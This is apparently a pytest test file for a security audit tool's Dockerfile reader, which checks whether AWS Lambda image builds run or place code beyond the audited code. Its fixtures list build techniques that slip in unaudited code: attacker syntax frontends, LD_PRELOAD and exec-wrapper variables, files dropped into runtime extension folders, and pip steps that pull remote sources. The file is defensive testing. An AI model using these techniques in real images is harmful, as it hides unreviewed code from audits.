"""The Dockerfile reader (gate.bundle.discovery.dockerfile): what an image function's
build does besides copying the scanned code, read as docker and BuildKit read the file."""

from __future__ import annotations

from pathlib import Path

import pytest

from gate.bundle.discovery.dockerfile import image_programs

FROM = "FROM public.ecr.aws/lambda/python:3.12\n"
CMD = 'CMD ["app.handler"]\n'


def steps(tmp_path: Path, text: str) -> str:
    (tmp_path / "Dockerfile").write_text(text, encoding="utf-8")
    return image_programs(tmp_path, "Dockerfile")


@pytest.mark.parametrize(
    "body",
    [
        "COPY app.py ${LAMBDA_TASK_ROOT}\n",
        "COPY app.py requirements.txt ./\n",
        "COPY src/ /var/task/src/\n",
        "WORKDIR /var/task/lib\nCOPY helpers.py .\n",
        "COPY --chown=1000 app.py $LAMBDA_TASK_ROOT/\n",
        'COPY ["app.py", "/var/task/"]\n',
        "ENV PYTHONUNBUFFERED=1 STAGE=prod\n",
        "ENV TABLE orders\nARG VERSION=1\nLABEL team=orders\n",
        "# escape=`\nENV A=1 `\n    B=2\n",
        "# check=skip=JSONArgsRecommended\n",
        "# syntax=docker/dockerfile:1.7\n",
        "# syntax=docker/dockerfile:1 --verbose\n",
        # pip installing the requirements file the audit reads, as `sam build` does.
        "COPY requirements.txt ./\nRUN pip install -r requirements.txt -t .\n",
        "COPY requirements.txt ${LAMBDA_TASK_ROOT}\n"
        'RUN pip install -r requirements.txt --target "${LAMBDA_TASK_ROOT}" --no-cache-dir\n',
        "RUN python3.12 -m pip install --upgrade --requirement=requirements-prod.txt\n",
        'RUN ["pip3", "install", "-r", "/var/task/requirements.txt"]\n',
        "ENV PIP_NO_CACHE_DIR=1\nARG VERSION=1\n",
        "RUN pip install --no-cache-dir --require-hashes --no-deps -r requirements.txt "
        '--target "${LAMBDA_TASK_ROOT}"\n',
        "RUN pip install --only-binary=:all: -r requirements.txt\n",
        "ENV PYTHONPATH=${LAMBDA_TASK_ROOT}/vendor:/var/task/lib\n",
    ],
)
def test_copying_the_code_and_setting_options_runs_nothing(tmp_path: Path, body: str) -> None:
    text = body + FROM + CMD if body.startswith("#") else FROM + body + CMD
    assert steps(tmp_path, text) == ""


def test_a_later_stage_from_an_earlier_one_is_known(tmp_path: Path) -> None:
    text = FROM.replace("\n", " AS base\n") + "COPY app.py .\nFROM base\n" + CMD
    assert steps(tmp_path, text) == ""


@pytest.mark.parametrize(
    ("text", "said"),
    [
        # A build frontend of the attacker's, however BuildKit finds it.
        (f"# syntax=docker.io/attacker/frontend:1\n{FROM}", "#syntax="),
        (f"#!/usr/bin/env docker\n# syntax=attacker/frontend\n{FROM}", "#syntax="),
        (f"# syntax=attacker/frontend:1 --verbose\n{FROM}", "#syntax="),
        (f"\ufeff# syntax=attacker/frontend\n{FROM}", "#syntax="),
        (f"// syntax=attacker/frontend\n{FROM}", "the line"),
        (f"# future=1\n{FROM}", "#future="),
        # Files put where the runtime runs programs from, or under another name.
        (f"{FROM}COPY wrap.sh /opt/extensions/\n", "COPY"),
        (f"{FROM}COPY bootstrap /var/runtime/\n", "COPY"),
        (f"{FROM}WORKDIR /opt/extensions\nCOPY wrap.sh .\n", "COPY"),
        (f"{FROM}WORKDIR ${{DIR}}\nCOPY wrap.sh .\n", "COPY"),
        (f"{FROM}COPY wrap.sh /var/task/../../opt/extensions/\n", "COPY"),
        (f"{FROM}COPY boot.txt /var/task/boot.py\n", "COPY"),
        (f"{FROM}COPY --from=tools /x /var/task/\n", "COPY"),
        (
            f"{FROM.replace(chr(10), ' AS base')}\nWORKDIR /opt/extensions\nFROM base\nCOPY w .\n",
            "COPY",
        ),
        # Variables that make the runtime, the shell or Python start something.
        (f"{FROM}ENV AWS_LAMBDA_EXEC_WRAPPER=/var/task/wrap.sh\n", "ENV"),
        (f"{FROM}ENV AWS_LAMBDA_EXEC_\\\nWRAPPER=/var/task/wrap.sh\n", "ENV"),
        (f"{FROM}ENV A=1 \\\n\n  LD_PRELOAD=/var/task/x.so\n", "ENV"),
        (f"{FROM}ENV PATH=/var/task/bin:$PATH\n", "ENV"),
        (f"{FROM}ENV LAMBDA_TASK_ROOT /opt/extensions\n", "ENV"),
        (f"{FROM}ENV PYTHONPATH=/opt/boot\n", "ENV"),
        (f"{FROM}ENV PYTHONPATH=/var/task/node_modules\n", "ENV"),
        (f"{FROM}ENV PYTHONPATH=/var/task/vendor:$PYTHONPATH\n", "ENV"),
        (f'{FROM}ENV "PYTHONSTARTUP"=/var/task/boot.py\n', "ENV"),
        (f"{FROM}ARG NAME=LD_PRELOAD\nENV ${{NAME}}=/var/task/x.so\n", "ENV"),
        # pip doing more than install the audited requirements, or told to by variables.
        (f"{FROM}RUN pip install -r requirements.txt && sh boot.sh\n", "RUN steps"),
        (f"{FROM}RUN pip install boto3==1.34.0\n", "RUN steps"),
        (f"{FROM}RUN pip install -r requirements.txt --find-links ./wheels\n", "RUN steps"),
        (f"{FROM}RUN pip install -r deps.txt\n", "RUN steps"),
        (f"{FROM}RUN pip install -r requirements.txt -t /opt/python\n", "RUN steps"),
        (f"{FROM}RUN pip install -r $REQS\n", "RUN steps"),
        (
            f"{FROM}RUN --mount=type=cache,target=/root/.cache pip install -r requirements.txt\n",
            "RUN steps",
        ),
        (f"{FROM}ENV PIP_FIND_LINKS=/var/task/wheels\n", "ENV"),
        (f"{FROM}RUN pip install -r=requirements.txt -t .\n", "RUN steps"),
        (f"{FROM}RUN pip install -r https://x.example/requirements.txt\n", "RUN steps"),
        (f"{FROM}RUN pip install -r requirements.txt -t {{.,./libs/six}}\n", "RUN steps"),
        (
            f"{FROM}WORKDIR /var/task/build\nRUN pip install -r ../requirements.txt\n",
            "RUN steps",
        ),
        (f"{FROM}ENV XDG_CONFIG_HOME=/var/task/config\n", "ENV"),
        (f"{FROM}ARG XDG_CONFIG_DIRS=/var/task/config\n", "ARG"),
        (f"{FROM}ARG PIP_INDEX_URL=https://pypi.example.com/simple\n", "ARG"),
        # Images and steps that can write anything.
        ("FROM python:3.12\n", "FROM 'python:3.12'"),
        (f"{FROM}RUN dnf install -y gcc\n", "RUN steps"),
        (f"{FROM}ADD https://example.com/x.tgz /var/task/\n", "ADD steps"),
        (f"{FROM}ONBUILD RUN x\n", "ONBUILD steps"),
    ],
)
def test_a_step_that_may_put_or_start_other_code_is_said(
    tmp_path: Path, text: str, said: str
) -> None:
    assert said in steps(tmp_path, text + CMD)


def test_an_unreadable_dockerfile_is_said(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").mkdir()
    assert "cannot read" in image_programs(tmp_path, "Dockerfile")
